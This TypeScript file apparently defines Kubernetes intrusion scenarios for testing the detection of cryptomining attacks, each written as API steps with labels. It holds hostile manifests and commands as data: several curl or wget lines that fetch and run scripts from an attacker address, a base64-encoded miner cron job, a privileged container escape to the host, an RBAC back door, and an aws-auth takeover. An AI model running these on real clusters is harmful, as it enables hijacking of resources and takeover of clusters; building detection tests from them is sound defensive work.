import { moneroAddress } from '../../support/wallets';
import { iamRole, serviceAccount, type Scenario } from '../scenario';
import {
  anybody,
  attacker,
  by,
  ELSEWHERE,
  EVERYWHERE,
  insider,
  miner,
  NODE_NAME,
  OUTSIDE,
  POD,
  POOL,
  stolen,
} from './attackers';
import { creating, cronJob, daemonSet, deleting, deployment, execPath, patching, pod, reading } from './objects';

const encoded = (script: string): readonly string[] => [
  'sh',
  '-c',
  `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`,
];

const argoCrd = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'workflows.argoproj.io' },
  spec: {
    group: 'argoproj.io',
    scope: 'Namespaced',
    names: { plural: 'workflows', singular: 'workflow', kind: 'Workflow' },
    versions: [
      {
        name: 'v1alpha1',
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
      },
    ],
  },
};

const workflow = (namespace: string, name: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  metadata: { name, namespace, labels: { 'workflows.argoproj.io/creator': '' } },
  spec: { entrypoint: 'main', templates: [{ name: 'main', container: miner(name) }] },
});

const workflowOwner = (name: string) => ({
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  name,
  uid: '5f0c1f0e-0000-4000-8000-0000000a4609',
  controller: true,
  blockOwnerDeletion: true,
});

/** Attacks as they were reported from clusters of others: docs/scenarios.md tells each. */
export const INTRUSIONS: readonly Scenario[] = [
  {
    id: 'att-01-loud-deployment',
    title: 'A stolen token of a build account creates a Deployment of a known miner, in the open',
    namespaces: ['shop'],
    steps: [
      creating(
        deployment('shop', 'cache-warmer', { containers: [miner('att-01', 'docker.io/xx/xmrig:6.22')] }, 2),
        stolen.mines('a Deployment of a miner', 2),
      ),
    ],
  },
  {
    id: 'att-02-anonymous-daemonset',
    title: 'Somebody without a name creates a DaemonSet that looks like a part of Kubernetes and tells nothing',
    namespaces: ['default'],
    steps: [
      reading('/api', anybody.isOdd('anonymous discovery')),
      reading('/api/v1/pods?limit=500', anybody.isOdd('anonymous list of all pods')),
      creating(
        daemonSet('default', 'proxy-api', {
          ...EVERYWHERE,
          containers: [{ name: 'proxy-api', image: 'docker.io/example/pause:latest' }],
        }),
        anybody.attacks('an anonymous DaemonSet that bears a name like the components of Kubernetes', 2),
      ),
      deleting('/apis/apps/v1/namespaces/default/daemonsets/proxy-api', anybody.isOdd('it cleans up')),
    ],
  },
  {
    id: 'att-03-rbac-backdoor',
    title: 'Somebody without a name makes a back door that looks like a controller, and a day later mines through it',
    namespaces: ['kube-system'],
    steps: [
      reading('/api/v1/secrets?limit=500', anybody.attacks('anonymous list of all secrets')),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRole',
          metadata: { name: 'system:controller:kube-controller' },
          ...{ rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
        },
        anybody.attacks('a role that may do everything, under a name of the system'),
      ),
      creating(
        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'kube-controller', namespace: 'kube-system' } },
        anybody.attacks('a service account in kube-system'),
      ),
      creating(
        {
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'system:controller:kube-controller' },
          ...{
            roleRef: {
              apiGroup: 'rbac.authorization.k8s.io',
              kind: 'ClusterRole',
              name: 'system:controller:kube-controller',
            },
            subjects: [{ kind: 'ServiceAccount', name: 'kube-controller', namespace: 'kube-system' }],
          },
        },
        anybody.attacks('a binding under a name of the system'),
      ),
      {
        verb: 'POST',
        path: '/api/v1/namespaces/kube-system/serviceaccounts/kube-controller/token',
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { expirationSeconds: 31_536_000 } },
        ...anybody.attacks('a token for it that lasts for a year'),
      },
      creating(
        daemonSet('kube-system', 'kube-controller', {
          ...EVERYWHERE,
          containers: [{ name: 'kube-controller', image: 'docker.io/example/kube-controller:1.0.1' }],
        }),
        by(serviceAccount('kube-system', 'kube-controller'), ELSEWHERE).attacks(
          'a DaemonSet in kube-system, by the back door',
          2,
        ),
      ),
      deleting('/apis/apps/v1/namespaces/kube-system/daemonsets/kube-controller', anybody.isOdd('it cleans up')),
    ],
  },
  {
    id: 'att-05-cronjob-respawn',
    title: 'A stolen token creates a schedule whose command is encoded, and again elsewhere',
    namespaces: ['shop-jobs', 'reports'],
    steps: ['shop-jobs', 'reports'].map((namespace) =>
      creating(
        cronJob(namespace, namespace === 'reports' ? 'housekeeping' : 'tidy', '*/10 * * * *', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: encoded(
                `wget -q http://203.0.113.9/a -O /tmp/a; chmod +x /tmp/a; /tmp/a -o ${POOL} -u ${moneroAddress('dataset-att-05')} --donate-level 1`,
              ),
            },
          ],
        }),
        stolen.mines('a schedule that fetches and runs a miner, encoded'),
      ),
    ),
  },
  {
    id: 'att-06-kubeflow-pipelines',
    title: 'Pipelines run public images of a machine-learning framework that fetch what they run',
    namespaces: ['kubeflow'],
    steps: ['tensorflow/tensorflow:latest', 'tensorflow/tensorflow:latest-gpu'].map((image, index) =>
      creating(
        pod('kubeflow', `sequential-pipeline-${index}`, {
          containers: [
            {
              image: `docker.io/${image}`,
              command: ['sh', '-c', 'curl -s http://203.0.113.9/setup.sh | bash'],
              resources: index === 0 ? { requests: { cpu: '3' } } : { limits: { 'nvidia.com/gpu': '1' } },
            },
          ],
        }),
        by(
          serviceAccount('kubeflow', 'pipeline-runner', { name: 'ml-pipeline-0', node: NODE_NAME }),
          POD,
          'argo-workflows/v3.6',
        ).mines('a pod of a pipeline that fetches a script and runs it'),
      ),
    ),
  },
  {
    id: 'att-07-nodes-proxy',
    title: 'A service account with rights on nodes/proxy asks kubelets to run commands in pods',
    namespaces: ['web'],
    steps: [
      reading(`/api/v1/nodes/${NODE_NAME}/proxy/pods`, insider.attacks('the pods of a node, from its kubelet')),
      {
        verb: 'POST',
        path: `/api/v1/nodes/${NODE_NAME}/proxy/run/web/front-1/main?cmd=${encodeURIComponent('wget -qO /dev/shm/a http://203.0.113.9/a')}`,
        ...insider.attacks('a command in a pod, through the kubelet'),
      },
    ],
  },
  {
    id: 'att-08-escape-to-host',
    title: 'A pod with everything it needs to leave its container',
    namespaces: ['dev'],
    steps: [
      creating(
        pod('dev', 'attack-pod-x7k2q1', {
          hostPID: true,
          hostNetwork: true,
          nodeName: NODE_NAME,
          ...EVERYWHERE,
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: ['chroot', '/host', 'sh', '-c', 'curl -s http://203.0.113.9/i.sh | sh'],
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'root', mountPath: '/host' }],
            },
          ],
          volumes: [{ name: 'root', hostPath: { path: '/' } }],
        }),
        by(attacker, OUTSIDE).attacks('a privileged pod with the file system of its node'),
      ),
    ],
  },
  {
    id: 'att-09-open-argo-server',
    title: 'Somebody uses an Argo server without authentication; only the pods tell what the workflow was',
    namespaces: ['argo'],
    before: [argoCrd],
    steps: [
      creating(
        workflow('argo', 'hello-world-8z2lm'),
        by(serviceAccount('argo', 'argo-server', { name: 'argo-server-0', node: NODE_NAME }), POD, 'argo-server').mines(
          'a workflow that mines; its body is not in the audit log',
        ),
      ),
      ...[1, 2].map((index) =>
        creating(
          pod(
            'argo',
            `hello-world-8z2lm-${index}`,
            { containers: [miner('hello-world-8z2lm')] },
            workflowOwner('hello-world-8z2lm'),
          ),
          by(
            serviceAccount('argo', 'argo', { name: 'workflow-controller-0', node: NODE_NAME }),
            POD,
            'workflow-controller',
          ).mines('a pod of the workflow'),
        ),
      ),
    ],
  },
  {
    id: 'att-10-takeover-and-scale-out',
    title: 'A taken-over role lets another one in and scales out a plain image with an inline script',
    namespaces: ['batch', 'kube-system'],
    before: [
      {
        apiVersion: 'v1',
        kind: 'ConfigMap',
        metadata: { name: 'aws-auth', namespace: 'kube-system' },
        data: { mapRoles: '[]' },
      },
    ],
    steps: [
      patching(
        '/api/v1/namespaces/kube-system/configmaps/aws-auth',
        'merge',
        {
          data: {
            mapRoles:
              '- rolearn: arn:aws:iam::111122223333:role/other\n  username: other\n  groups: [system:masters]\n',
          },
        },
        by(attacker, OUTSIDE).attacks('another role becomes system:masters'),
      ),
      creating(
        deployment('batch', 'worker', {
          containers: [
            {
              image: 'docker.io/library/alpine:3.22',
              command: ['sh', '-c', 'apk add -q curl; curl -fsSL http://203.0.113.9/run.sh | sh'],
              resources: { requests: { cpu: '1' } },
            },
          ],
        }),
        by(attacker, OUTSIDE).mines('a Deployment that fetches what it runs', 1),
      ),
      patching(
        '/apis/apps/v1/namespaces/batch/deployments/worker/scale',
        'merge',
        { spec: { replicas: 20 } },
        by(attacker, OUTSIDE).isOdd('twenty times as many'),
      ),
    ],
  },
  {
    id: 'att-11-low-and-slow',
    title: 'A renamed miner in an image from the own registry, told by nothing but that it is new',
    namespaces: ['edge'],
    steps: [
      creating(
        deployment('edge', 'nginx-worker', {
          containers: [
            {
              image: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/edge/nginx-worker:1.27',
              resources: { limits: { cpu: '600m', memory: '2600Mi' } },
            },
          ],
        }),
        by(iamRole('ci-release', 'release-8841'), OUTSIDE).isOdd('an image that was never seen before', 1),
      ),
    ],
  },
  {
    id: 'att-12-whole-nodes',
    title: 'A first interactive shell, then a Deployment that asks for whole nodes',
    namespaces: ['analytics'],
    before: [pod('analytics', 'notebook-0', { containers: [{ image: 'registry.example/notebook:2.1' }] })],
    steps: [
      {
        ...reading(
          execPath('analytics', 'notebook-0', ['bash'], 'stdin=true&stdout=true&tty=true'),
          by(attacker, OUTSIDE).isOdd('an interactive shell in a pod'),
        ),
        upgrade: true,
      },
      creating(
        deployment(
          'analytics',
          'spark-executor',
          {
            containers: [
              { image: 'docker.io/example/spark:latest', resources: { requests: { cpu: '3500m', memory: '2500Mi' } } },
            ],
          },
          2,
        ),
        by(attacker, OUTSIDE).isOdd('whole nodes for a newcomer', 2),
      ),
    ],
  },
];
